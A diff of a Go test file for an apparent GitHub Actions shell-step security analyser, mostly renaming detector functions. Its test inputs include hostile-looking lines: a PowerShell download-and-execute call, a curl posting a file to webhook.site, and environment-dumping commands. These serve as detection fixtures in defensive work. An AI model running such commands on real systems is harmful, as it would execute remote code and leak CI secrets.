@@ -9,10 +9,10 @@ import (
 func TestLines(t *testing.T) {
 	text := "a \\\n  b\n# c\n\n  d # e\nf \\"
 	want := []Line{{"a  b", 0, 7}, {"d # e", 15, 5}, {"f \\", 21, 3}}
-	if diff := cmp.Diff(want, Lines(text)); diff != "" {
+	if diff := cmp.Diff(want, SplitLines(text)); diff != "" {
 		t.Errorf("lines (-want +got):\n%s", diff)
 	}
-	for _, l := range Lines(text) {
+	for _, l := range SplitLines(text) {
 		if l.Offset+l.Length > len(text) {
 			t.Errorf("%+v is outside of the text", l)
 		}
@@ -34,7 +34,7 @@ func TestWrites(t *testing.T) {
 		`echo "x=$A" >> $GITHUB_ENV`:                                  nil,
 	} {
 		var got []write
-		for _, w := range Writes(text, "GITHUB_OUTPUT") {
+		for _, w := range ParseWrites(text, "GITHUB_OUTPUT") {
 			got = append(got, write{w.Name, w.Value})
 		}
 		if diff := cmp.Diff(want, got); diff != "" {
@@ -49,7 +49,7 @@ func TestEvaluated(t *testing.T) {
 		`ssh host "run $A"`:        {"A"},
 		`python3 -c "print('$A')"`: {"A"}, `iex $env:A`: {"A"}, `bash script.sh $A`: nil,
 	} {
-		if diff := cmp.Diff(want, Evaluated(line)); diff != "" {
+		if diff := cmp.Diff(want, EvaluatedVariables(line)); diff != "" {
 			t.Errorf("%s (-want +got):\n%s", line, diff)
 		}
 	}
@@ -62,7 +62,7 @@ func TestFetched(t *testing.T) {
 		"iex (New-Object Net.WebClient).DownloadString('x')": true, "curl https://x.example -o f": false,
 		"curl https://x.example | jq .": false, "curl https://x.example/k | apt-key add -": false,
 	} {
-		if got := Fetched(line); got != want {
+		if got := RunsRemoteScript(line); got != want {
 			t.Errorf("%s: got %v", line, got)
 		}
 	}
@@ -76,21 +76,23 @@ func TestAdHoc(t *testing.T) {
 		"bundle add x": "bundle add x", "npx cowsay hi": "npx cowsay hi",
 		"npm update": "npm update", "cd a && npm install b@1": "npm install b@1",
 	} {
-		if got := AdHoc(line); got != want {
+		if got := UnlockedInstall(line); got != want {
 			t.Errorf("%s: got %q, want %q", line, got, want)
 		}
 	}
 }
 
 func TestLogs(t *testing.T) {
-	if !Traced("set -eux") || !Traced("bash -x a.sh") || Traced("set -eu") || Traced("echo -x") {
+	if !EnablesTracing("set -eux") || !EnablesTracing("bash -x a.sh") || EnablesTracing("set -eu") ||
+		EnablesTracing("echo -x") {
 		t.Error("traced")
 	}
-	if !Listed("env") || !Listed("printenv | sort") || Listed("env A=b make") || Listed("setup") {
+	if !PrintsEnvironment("env") || !PrintsEnvironment("printenv | sort") || PrintsEnvironment("env A=b make") ||
+		PrintsEnvironment("setup") {
 		t.Error("listed")
 	}
-	if Collector("curl -d @x https://webhook.site/1") != "webhook.site" ||
-		Collector("curl https://example.com/webhook") != "" {
+	if RequestCollector("curl -d @x https://webhook.site/1") != "webhook.site" ||
+		RequestCollector("curl https://example.com/webhook") != "" {
 		t.Error("collector")
 	}
 }
@@ -98,23 +100,23 @@ func TestLogs(t *testing.T) {
 func FuzzScript(f *testing.F) {
 	f.Add("{\necho \"a<<EOF\"\nX=$Y \\\n} >> $GITHUB_OUTPUT\neval $X\n")
 	f.Fuzz(func(t *testing.T, text string) {
-		for _, l := range Lines(text) {
+		for _, l := range SplitLines(text) {
 			if l.Offset < 0 || l.Offset+l.Length > len(text) {
 				t.Errorf("%+v is outside of %q", l, text)
 			}
-			Evaluated(l.Text)
-			AdHoc(l.Text)
-			Fetched(l.Text)
+			EvaluatedVariables(l.Text)
+			UnlockedInstall(l.Text)
+			RunsRemoteScript(l.Text)
 		}
-		for _, w := range Writes(text, "GITHUB_ENV") {
+		for _, w := range ParseWrites(text, "GITHUB_ENV") {
 			if w.Offset < 0 || w.Offset > len(text) {
 				t.Errorf("%+v is outside of %q", w, text)
 			}
 		}
-		Assignments(text)
-		Reads(text)
-		Checked(text)
-		Query(text)
+		ParseAssignments(text)
+		ParseReads(text)
+		ValidatedVariables(text)
+		JQPath(text)
 	})
 }
 
@@ -142,7 +144,7 @@ func TestReads(t *testing.T) {
 		`$(curl -s https://api.github.com/repos/o/r/issues/1/comments)`: {{"github.event.comment", false}},
 	} {
 		var got []read
-		for _, r := range Reads(text) {
+		for _, r := range ParseReads(text) {
 			if r.File != "" {
 				r.Context = "file"
 			}
@@ -164,7 +166,7 @@ func TestChecked(t *testing.T) {
 		`[[ $N =~ [0-9]+ ]]`:                      false,
 		`[[ -n $N ]]`:                             false,
 	} {
-		if got := Checked(text)["N"]; got != want {
+		if got := ValidatedVariables(text)["N"]; got != want {
 			t.Errorf("%s: got %v", text, got)
 		}
 	}
@@ -173,11 +175,11 @@ func TestChecked(t *testing.T) {
 func TestQuery(t *testing.T) {
 	for text, want := range map[string]string{`jq -r '.head.ref'`: "head.ref", `gh api x --jq '.[0].title'`: "*.title",
 		`jq .`: "", `jq '.a["b"]'`: "a.*"} {
-		if got, _ := Query(text); got != want {
+		if got, _ := JQPath(text); got != want {
 			t.Errorf("%s: got %q, want %q", text, got, want)
 		}
 	}
-	if _, ok := Query("echo a"); ok {
+	if _, ok := JQPath("echo a"); ok {
 		t.Error("a text without jq has a query")
 	}
 }
